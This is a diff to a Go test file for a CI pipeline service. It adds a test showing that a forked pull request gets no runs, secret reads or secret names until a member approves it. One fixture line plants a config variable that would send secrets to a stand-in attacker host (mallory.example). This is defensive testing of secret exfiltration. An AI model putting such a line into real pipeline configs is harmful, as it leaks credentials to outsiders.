@@ -441,6 +441,46 @@ func TestAForkWaitsForAMember(t *testing.T) {
 	}
 }
 
+// TestAForkIsToldNothing sends secrets away, and asks which there are: nothing is run, read or
+// looked for until a member has approved that commit, and what is planned then reads no
+// secret. The comment, which anybody may read, has neither values nor which secrets there are.
+func TestAForkIsToldNothing(t *testing.T) {
+	t.Parallel()
+	c := connect(t, vcs.ApplyOnMerge)
+	admin := vcstest.As(t.Context(), "admin")
+	binding := vcs.Binding{Name: "orders", Score: "score.yaml", Paths: []string{"score.yaml"}, Plan: []string{"dev"}, Apply: vcs.ApplyOnMerge, Stages: []string{"dev"}}
+	if _, err := c.Bind(admin, vcstest.Shop(), "orders", binding); err != nil {
+		t.Fatal(err)
+	}
+	c.Runs.Missing = []string{"guessed"}
+	c.Runs.Dossier = run.Dossier{
+		Plan: run.PlanView{Summary: run.Plan{Update: 1}, Changes: []run.ResourceChange{{Address: "module.db", Action: "update", Values: []run.ValueChange{{Path: "password", Before: "hunter2", After: "hunter3"}}}}},
+		Gates: []run.GateResult{
+			{Gate: "tags", Outcome: run.Passed, Message: "all are there"},
+			{Gate: run.SecretsGate, Level: run.HardMandatory, Outcome: run.Missed, Message: "a reference is to a secret that is not in dev"},
+		},
+	}
+	base := c.Git("rev-parse", "main")
+	head := c.Commit("price", map[string]string{"score.yaml": vcstest.Score("orders", "x:2") + "    variables:\n      TO: https://mallory.example/?a=${secret:guessed}&b=${secret:db/credentials#password}\n"})
+	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: base, fork: true})})
+	vcstest.Eventually(t, "it waits", func() bool { return strings.Contains(c.said(t), "waits for a member") })
+	if text := c.said(t); len(c.Runs.All()) != 0 || c.Runs.Looked != 0 || c.Secrets.Reads() != 0 || strings.Contains(text, "guessed") {
+		t.Fatalf("%v, looked %d times, read %d times\n%s", c.Runs.All(), c.Runs.Looked, c.Secrets.Reads(), text)
+	}
+	if _, err := c.Approve(vcstest.As(t.Context(), "developer"), vcstest.Shop(), "orders", 7, head); err != nil {
+		t.Fatal(err)
+	}
+	plan := c.Runs.Waiting(t, "dev")
+	if !plan.DryRun || !plan.Unmerged {
+		t.Errorf("planned as %+v", plan)
+	}
+	c.Runs.End(t, plan.ID, run.PlannedOnly)
+	vcstest.Eventually(t, "it is planned", func() bool { return strings.Contains(c.said(t), "update `module.db`") })
+	if text := c.said(t); strings.Contains(text, "hunter") || strings.Contains(text, "secret") || c.Runs.Looked != 0 || c.Secrets.Reads() != 0 {
+		t.Errorf("looked %d times, read %d times\n%s", c.Runs.Looked, c.Secrets.Reads(), text)
+	}
+}
+
 func TestACommandThatIsNotFollowedIsAnswered(t *testing.T) {
 	t.Parallel()
 	c := connect(t, vcs.ApplyOnMerge)
@@ -540,16 +580,16 @@ func TestATokenIsRenewed(t *testing.T) {
 	heard := &listener{told: make(chan string, 2)}
 	c := connect(t, "", heard)
 	admin := vcstest.As(t.Context(), "admin")
-	if _, err := c.Renew(admin, vcstest.Shop(), "orders", "wrong"); err == nil {
+	if _, err := c.Renew(admin, vcstest.Shop(), "orders", "wrong", ""); err == nil {
 		t.Error("a wrong token is taken")
 	}
-	if _, err := c.Renew(admin, vcstest.Shop(), "orders", ""); err != nil {
+	if _, err := c.Renew(admin, vcstest.Shop(), "orders", "", ""); err != nil {
 		t.Error(err)
 	}
 	if len(heard.told) != 0 {
 		t.Errorf("told is %q", <-heard.told)
 	}
-	if _, err := c.Renew(admin, vcstest.Shop(), "orders", token); err != nil || len(heard.told) != 1 {
+	if _, err := c.Renew(admin, vcstest.Shop(), "orders", token, ""); err != nil || len(heard.told) != 1 {
 		t.Errorf("told of %d, %v", len(heard.told), err)
 	}
 }
